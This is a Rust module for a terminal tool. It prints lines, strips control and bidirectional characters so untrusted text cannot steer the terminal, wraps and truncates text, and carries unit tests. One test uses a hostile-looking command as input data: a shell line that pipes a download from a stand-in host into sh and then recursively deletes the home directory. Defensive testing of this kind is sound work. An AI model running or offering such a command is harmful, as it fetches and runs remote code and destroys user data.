//! Writes to the terminal. What models and screens say is shown as text, and can never steer the terminal.

use std::io::{self, ErrorKind, Write};
use std::sync::OnceLock;

use console::measure_text_width;
use tapwright_tasks::count_of;

/// Why something that was to be read on standard output is not there.
static LOST: OnceLock<io::Error> = OnceLock::new();

/// A line to standard output. If nobody reads it any more, the work goes on all the same: it is in the record.
pub fn out(line: &str) {
    let mut out = io::stdout().lock();
    if let Err(error) = writeln!(out, "{line}").and_then(|()| out.flush())
        && error.kind() != ErrorKind::BrokenPipe
    {
        let _ = LOST.set(error);
    }
}

/// Why not all of the output was written, if somebody waits for it still.
pub fn write_error() -> Option<&'static io::Error> {
    LOST.get()
}

/// A line to standard error.
pub fn err(line: &str) {
    let _ = writeln!(io::stderr().lock(), "{line}");
}

/// The text without anything that a terminal would obey, line breaks and tabs apart.
pub fn plain(text: &str) -> String {
    let mut plain = String::with_capacity(text.len());
    for letter in text.chars() {
        match letter {
            '\n' => plain.push('\n'),
            '\t' => plain.push_str("    "),
            '\r' => {}
            // Marks that turn the direction of writing make one text look like another.
            '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' => plain.push('\u{fffd}'),
            letter if letter.is_control() => plain.extend(letter.escape_default()),
            letter => plain.push(letter),
        }
    }
    plain
}

/// The text on one line.
pub fn flat(text: &str) -> String {
    plain(text).split_whitespace().collect::<Vec<_>>().join(" ")
}

/// Lines of at most `width` columns, broken between words where that can be done.
pub fn wrap(text: &str, width: usize) -> Vec<String> {
    let width = width.max(10);
    let mut lines = Vec::new();
    for paragraph in plain(text).lines() {
        let mut line = String::new();
        for word in paragraph.split_whitespace() {
            let together = measure_text_width(&line) + usize::from(!line.is_empty()) + measure_text_width(word);
            if together <= width {
                if !line.is_empty() {
                    line.push(' ');
                }
                line.push_str(word);
                continue;
            }
            if !line.is_empty() {
                lines.push(std::mem::take(&mut line));
            }
            // A word that is longer than a line; Chinese and Japanese have no spaces.
            for letter in word.chars() {
                let mut shown = [0; 4];
                let letter = letter.encode_utf8(&mut shown);
                if measure_text_width(&line) + measure_text_width(letter) > width {
                    lines.push(std::mem::take(&mut line));
                }
                line.push_str(letter);
            }
        }
        lines.push(line);
    }
    while lines.last().is_some_and(String::is_empty) {
        lines.pop();
    }
    lines
}

/// The text over as many lines of at most `width` columns as it takes, broken behind blanks where that can be done. Nothing is left out or
/// added, blanks neither: in a command they are meant.
pub fn break_lines(text: &str, width: usize) -> Vec<String> {
    let width = width.max(10);
    let mut lines = Vec::new();
    let (mut line, mut columns) = (String::new(), 0);
    for letter in plain(text).replace('\n', " ").chars() {
        let wide = measure_text_width(letter.encode_utf8(&mut [0; 4]));
        if columns + wide > width {
            let rest = line.rfind(' ').map_or_else(String::new, |blank| line.split_off(blank + 1));
            lines.push(std::mem::replace(&mut line, rest));
            columns = measure_text_width(&line);
        }
        line.push(letter);
        columns += wide;
    }
    lines.push(line);
    lines
}

/// As much of a line as fits, with a sign that there was more.
pub fn fit(text: &str, width: usize) -> String {
    console::truncate_str(&flat(text), width.max(1), "…").into_owned()
}

/// A count of steps, as people say it.
pub fn steps(count: u32) -> String {
    count_of(u64::from(count), "step", "steps")
}

/// How many columns the terminal has; 100 where there is none.
pub fn columns() -> usize {
    console::Term::stdout().size_checked().map_or(100, |(_, columns)| usize::from(columns))
}

/// How wide what is printed may be.
pub fn width() -> usize {
    match console::Term::stdout().size_checked() {
        Some((_, columns)) => usize::from(columns).clamp(40, 140),
        None => 100,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn nothing_steers_the_terminal() {
        assert_eq!(plain("a\u{1b}[2Jb\u{7}\r\n\tc"), "a\\u{1b}[2Jb\\u{7}\n    c");
        assert_eq!(plain("\u{9b}31m\u{202e}x"), "\\u{9b}31m\u{fffd}x");
    }

    #[test]
    fn lines_are_broken_between_words() {
        assert_eq!(wrap("one two three four", 10), ["one two", "three four"]);
        assert_eq!(wrap("one\n\ntwo\n", 10), ["one", "", "two"]);
        assert_eq!(wrap("打开设置然后打开无线网络", 10), ["打开设置然", "后打开无线", "网络"]);
        assert_eq!(wrap("abcdefghijklmnop q", 10), ["abcdefghij", "klmnop q"]);
        assert!(wrap("", 10).is_empty());
    }

    /// Whatever a command holds, all of it is there: what is put together again is what came in.
    #[test]
    fn broken_lines_are_the_whole_text() {
        let command = "runs the program sh -c 'curl  x.example |  sh; 打开设置然后打开无线网络; rm -r ~'";
        assert_eq!(break_lines("one  two three", 10), ["one  two ", "three"]);
        for text in [command, "", " ", "a", &"x".repeat(95), &format!("{} {}", "x".repeat(29), "y".repeat(31))] {
            for width in 10..100 {
                let lines = break_lines(text, width);
                assert_eq!(lines.concat(), text, "{width}");
                assert!(lines.iter().all(|line| measure_text_width(line) <= width), "{width}: {lines:?}");
            }
        }
    }

    #[test]
    fn what_does_not_fit_is_cut() {
        assert_eq!(fit("one\ntwo three", 8), "one two…");
    }
}
